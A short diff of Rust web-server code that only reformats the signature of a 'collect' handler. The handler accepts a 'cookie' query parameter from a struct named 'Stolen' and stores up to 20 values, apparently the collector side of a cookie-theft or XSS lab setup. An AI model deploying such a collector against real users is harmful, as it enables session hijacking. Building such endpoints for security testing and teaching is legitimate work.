@@ -118,7 +118,10 @@ struct Stolen {
     cookie: String,
 }
 
-async fn collect(Extension(cookies): Extension<CollectedCookies>, Query(Stolen { cookie }): Query<Stolen>) -> StatusCode {
+async fn collect(
+    Extension(cookies): Extension<CollectedCookies>,
+    Query(Stolen { cookie }): Query<Stolen>,
+) -> StatusCode {
     let mut cookies = cookies.0.lock().unwrap_or_else(PoisonError::into_inner);
     if !cookie.is_empty() && cookies.len() < 20 {
         cookies.push(cookie.chars().take(200).collect());
